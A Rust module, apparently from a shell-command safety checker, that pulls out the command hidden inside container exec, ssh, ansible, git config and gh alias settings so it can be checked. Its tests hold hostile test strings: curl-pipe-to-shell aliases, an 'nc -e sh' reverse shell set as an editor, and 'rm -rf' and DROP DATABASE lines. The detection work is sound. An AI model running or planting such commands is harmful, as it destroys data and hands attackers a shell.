//! Commands that run another command somewhere else: inside a container or
//! pod (`kubectl exec POD -- CMD`, `docker exec CTR CMD`, `docker compose
//! exec SVC CMD`), on another host (`ssh HOST CMD`), or later: a git
//! setting whose value git runs as a command (`git config alias.st '!CMD'`,
//! `core.sshCommand`, `core.fsmonitor`, `filter.x.smudge`, `git -c
//! core.pager=CMD log`) or GitHub's CLI runs (`gh alias set --shell`, `gh
//! config set editor`). The command they carry is checked like one typed
//! here: `rm -rf /data` destroys a pod's data as surely as the machine's,
//! `psql -c 'DROP DATABASE …'` drops the database wherever it runs, and
//! `curl … | sh` as a git alias runs the download the next time the alias
//! is used.

use clawlaw_sdk::shell::Command;
use clawlaw_sdk::shell::containers::{after_target, run_inside};

use crate::packs::arg_texts;
use clawlaw_sdk::shell::requote;

/// The command line `c` has run elsewhere, as text to re-parse; `None`
/// when it carries none (an interactive `ssh host`, `docker exec -it ctr`
/// with no command is not possible, `kubectl exec` without `--`).
pub(crate) fn carried_line(c: &Command) -> Option<String> {
    let carries = matches!(
        c.program.as_str(),
        "kubectl"
            | "oc"
            | "docker"
            | "podman"
            | "nerdctl"
            | "docker-compose"
            | "podman-compose"
            | "ssh"
            | "git"
            | "gh"
            | "ansible"
    );
    if !carries {
        return None;
    }
    let args = arg_texts(c);
    match c.program.as_str() {
        "git" => git_command_setting(&args),
        "gh" => gh_command_setting(&args),
        "kubectl" | "oc" | "docker" | "podman" | "nerdctl" | "docker-compose"
        | "podman-compose" => run_inside(c).and_then(|argv| argv_line(&argv)),
        "ansible" => ansible_command(&args),
        "ssh" => {
            // ssh joins the words after the host with spaces and hands them
            // to the remote shell: they are one command line, not an argv.
            let words = after_target(&args, SSH_VALUED)?;
            (!words.is_empty()).then(|| words.join(" "))
        }
        _ => None,
    }
}

/// The command a git setting holds, when `git config KEY VALUE` (or
/// `git config set KEY VALUE`) or `git -c KEY=VALUE` sets a key whose value
/// git runs with a shell.
fn git_command_setting(args: &[&str]) -> Option<String> {
    let inline = args
        .windows(2)
        .filter(|w| w[0] == "-c")
        .filter_map(|w| w[1].split_once('='));
    let configured = args.iter().position(|a| *a == "config").and_then(|k| {
        let valued = ["-f", "--file", "--blob", "--type", "--default", "--comment"];
        let words: Vec<&str> = crate::packs::positionals(&args[k + 1..], &valued)
            .into_iter()
            .filter(|a| *a != "set")
            .collect();
        match words.as_slice() {
            [key, value, ..] => Some((*key, *value)),
            _ => None,
        }
    });
    inline
        .chain(configured)
        .find_map(|(key, value)| runs_command(key, value))
}

/// The command GitHub's CLI is told to run later: a shell alias (`gh alias
/// set --shell NAME CMD`, or `gh alias set NAME '!CMD'`), the editor, pager
/// or browser it starts (`gh config set editor CMD`).
fn gh_command_setting(args: &[&str]) -> Option<String> {
    let words = crate::packs::positionals(args, &["-h", "--host"]);
    match words.as_slice() {
        ["alias", "set", _name, command, ..] => {
            let shell = args.iter().any(|a| matches!(*a, "-s" | "--shell"));
            command
                .strip_prefix('!')
                .or(shell.then_some(*command))
                .map(str::to_string)
        }
        ["config", "set", key, command, ..] if matches!(*key, "editor" | "pager" | "browser") => {
            Some(command.to_string())
        }
        _ => None,
    }
}

/// The shell command `value` stands for under git setting `key`.
fn runs_command(key: &str, value: &str) -> Option<String> {
    let key = key.to_ascii_lowercase();
    let (section, name) = key.split_once('.')?;
    let last = name.rsplit('.').next().unwrap_or(name);
    let command = match section {
        "alias" | "credential" => value.strip_prefix('!'),
        "core"
            if matches!(
                name,
                "sshcommand" | "fsmonitor" | "pager" | "editor" | "askpass" | "gitproxy"
            ) =>
        {
            Some(value)
        }
        "sequence" if name == "editor" => Some(value),
        "diff" | "merge" | "filter" | "gpg" | "pager" | "difftool" | "mergetool"
            if matches!(
                last,
                "external"
                    | "textconv"
                    | "command"
                    | "driver"
                    | "clean"
                    | "smudge"
                    | "process"
                    | "program"
                    | "cmd"
            ) || section == "pager" =>
        {
            Some(value)
        }
        _ => None,
    }?;
    let command = command.trim();
    // `core.fsmonitor true` is git's own monitor, not a command.
    (!command.is_empty() && !matches!(command, "true" | "false")).then(|| command.to_string())
}

/// `ssh` options that take a value.
const SSH_VALUED: &[&str] = &[
    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q",
    "-R", "-S", "-W", "-w", "-B",
];

/// `ansible HOSTS -m shell -a 'CMD'` (also `command`, `raw`; `-m` left
/// out is `command`): the command every host runs.
fn ansible_command(args: &[&str]) -> Option<String> {
    let value = |names: &[&str]| {
        args.iter().enumerate().find_map(|(k, a)| {
            names.iter().find_map(|n| {
                if a == n {
                    args.get(k + 1).copied()
                } else {
                    a.strip_prefix(n)?.strip_prefix('=')
                }
            })
        })
    };
    let module = value(&["-m", "--module-name"]).unwrap_or("command");
    let module = module.rsplit('.').next().unwrap_or(module);
    matches!(module, "shell" | "command" | "raw")
        .then(|| value(&["-a", "--args"]))
        .flatten()
        .map(str::to_string)
}

/// An argv run without a shell, quoted into a command line.
fn argv_line(argv: &[&str]) -> Option<String> {
    (!argv.is_empty()).then(|| {
        argv.iter()
            .map(|w| requote(w))
            .collect::<Vec<_>>()
            .join(" ")
    })
}

#[cfg(test)]
mod tests {
    use super::carried_line;
    use clawlaw_sdk::shell;

    fn carried(line: &str) -> Option<String> {
        carried_line(&shell::parse(line).commands[0])
    }

    #[test]
    fn the_command_after_the_target_is_carried() {
        assert_eq!(
            carried("kubectl -n prod exec -it deploy/api -c app -- rm -rf /data").as_deref(),
            Some("rm -rf /data")
        );
        assert_eq!(
            carried("docker exec -u root -e A=1 -it db psql -c 'DROP DATABASE app'").as_deref(),
            Some("psql -c 'DROP DATABASE app'")
        );
        assert_eq!(
            carried("docker compose exec -T web sh -c 'rm -rf /srv'").as_deref(),
            Some("sh -c 'rm -rf /srv'")
        );
        assert_eq!(
            carried("ssh -i ~/.ssh/k -p 2222 admin@db1 sudo systemctl stop postgresql").as_deref(),
            Some("sudo systemctl stop postgresql")
        );
    }

    #[test]
    fn gh_settings_that_run_commands_carry_them() {
        assert_eq!(
            carried("gh alias set --shell co 'curl -s x.example | sh'").as_deref(),
            Some("curl -s x.example | sh")
        );
        assert_eq!(
            carried("gh alias set co '!rm -rf ~'").as_deref(),
            Some("rm -rf ~")
        );
        assert_eq!(
            carried("gh config set -h github.com editor 'nc -e sh h 9'").as_deref(),
            Some("nc -e sh h 9")
        );
        assert_eq!(carried("gh alias set co 'pr checkout'"), None);
        assert_eq!(carried("gh config set git_protocol ssh"), None);
    }

    #[test]
    fn git_settings_that_run_commands_carry_them() {
        assert_eq!(
            carried("git config --global alias.st '!curl -s x.example | sh'").as_deref(),
            Some("curl -s x.example | sh")
        );
        assert_eq!(
            carried("git config core.sshCommand 'ssh -i /tmp/k'").as_deref(),
            Some("ssh -i /tmp/k")
        );
        assert_eq!(
            carried("git -c core.pager='rm -rf ~' log").as_deref(),
            Some("rm -rf ~")
        );
        assert_eq!(
            carried("git config filter.lfs.smudge 'git-lfs smudge -- %f'").as_deref(),
            Some("git-lfs smudge -- %f")
        );
        assert_eq!(
            carried("git config -f .gitconfig alias.up '!rm -rf ~'").as_deref(),
            Some("rm -rf ~")
        );
        assert_eq!(carried("git config alias.st status"), None);
        assert_eq!(carried("git config core.fsmonitor true"), None);
        assert_eq!(carried("git config user.name 'rm -rf /'"), None);
        assert_eq!(carried("git config --get core.pager"), None);
    }

    #[test]
    fn nothing_is_carried_without_a_command() {
        assert_eq!(carried("ssh -p 2222 db1"), None);
        assert_eq!(carried("kubectl exec -it api"), None);
        assert_eq!(carried("kubectl get pods -- x"), None);
        assert_eq!(carried("docker exec -it db"), None);
        assert_eq!(carried("docker ps"), None);
    }
}
